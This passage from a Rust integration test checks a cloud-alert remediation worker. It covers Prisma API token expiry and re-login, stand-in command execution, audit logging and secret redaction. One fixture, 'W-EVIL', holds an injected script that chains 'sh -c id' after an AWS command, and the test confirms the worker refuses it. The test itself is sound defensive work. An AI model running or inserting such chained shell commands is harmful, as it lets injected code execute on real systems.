        *ran.entry(call.argv).or_default() += 1;
    }
    for id in &ids {
        assert_eq!(ran.get(&words(&script_for(id))), Some(&1), "alert {id}");
    }
    assert_eq!(ran.len(), 500);
    let audit = std::fs::read_to_string(&audit_path).unwrap();
    assert_eq!(audit.lines().count(), 500);
    assert_no_secrets(&[&audit]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_worker_plans_with_prisma_and_never_prints_a_secret() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1, TOKEN_2]).await;
    Mock::given(method("POST"))
        .and(path(REMEDIATION))
        .and(header("x-redlock-auth", TOKEN_1))
        .respond_with(ResponseTemplate::new(401).set_body_json(json!({"message": "token_expired"})))
        .mount(&server)
        .await;
    let api = RemediationApiMock {
        hostile: [(
            "W-EVIL".to_owned(),
            "aws s3api list-buckets && sh -c id".to_owned(),
        )]
        .into(),
        missing: ["W-NONE".to_owned()].into(),
        ..Default::default()
    };
    mount_remediation(&server, TOKEN_2, api.clone()).await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("alerts.jsonl");
    let mut ids: Vec<String> = (0..20).map(|n| format!("W-{n:02}")).collect();
    ids.extend(["W-EVIL".to_owned(), "W-NONE".to_owned()]);
    let lines: Vec<String> = ids.iter().map(|id| alert_body(id, "pol-w")).collect();
    std::fs::write(&file, lines.join("\n") + "\n").unwrap();
    let audit_path = dir.path().join("audit.jsonl");
    let standin = StandIn::new();

    let output = tokio::process::Command::new(support::examples::example_binary("remediate").await)
        .arg("--source")
        .arg(format!("file:{}", file.display()))
        .args([
            "--planner",
            "prisma",
            "--allow-http",
            "--execute",
            "--summary",
            "json",
        ])
        .args(["--account-profile", &format!("{ACCOUNT}=remediator")])
        .arg("--audit")
        .arg(&audit_path)
        .env("API_ENDPOINT", server.uri())
        .env("PRISMA_ACCESS_KEY_ID", ACCESS_KEY_ID)
        .env("PRISMA_SECRET_KEY", SECRET_KEY)
        .env_remove("AUTH_KEY")
        .env("RUST_LOG", "debug")
        .env("PATH", standin.path_env())
        .env(support::LOG_VAR, standin.log_path())
        .env("REMEDIATION_CHILD_ENV", support::LOG_VAR)
        .output()
        .await
        .expect("run the worker");
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        output.status.success(),
        "worker failed:\n{stdout}\n{stderr}"
    );

    let summary: Value =
        serde_json::from_str(stdout.lines().last().expect("summary line")).expect("summary JSON");
    assert_eq!(summary["executed"], 20, "{stdout}\n{stderr}");
    assert_eq!(summary["rejected"], 1, "{stdout}");
    assert_eq!(summary["skipped"], 1, "{stdout}");
    assert_eq!(standin.calls().len(), 20);
    let prisma_line = stderr
        .lines()
        .find_map(|l| l.strip_prefix("remediate: prisma api "))
        .expect("the worker prints the planner's API stats");
    let prisma: Value = serde_json::from_str(prisma_line).expect("stats JSON");
    assert_eq!(prisma["login_calls"], 2, "{prisma_line}");
    assert!(
        prisma["remediation_calls"].as_u64().unwrap() >= 2,
        "{prisma_line}"
    );
    assert!(
        stderr.contains("logging in again"),
        "debug logs were on:\n{stderr}"
    );
    let audit = std::fs::read_to_string(&audit_path).unwrap();
    assert_eq!(audit.lines().count(), 22);
    // The hostile script is refused for its `sh`, after a catalog operation.
    let evil: Value = audit
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).expect("audit JSON"))
        .find(|r| r["alert_id"] == "W-EVIL")
        .expect("W-EVIL audited");
    let reason = evil["reason"].as_str().unwrap_or_default();
    assert!(
        reason.contains("unsafe_command: program_not_allowed: "),
        "{evil}"
    );
    assert!(requests_to(&server, "/login").await.len() == 2);
    assert_no_secrets(&[&stdout, &stderr, &audit]);
}
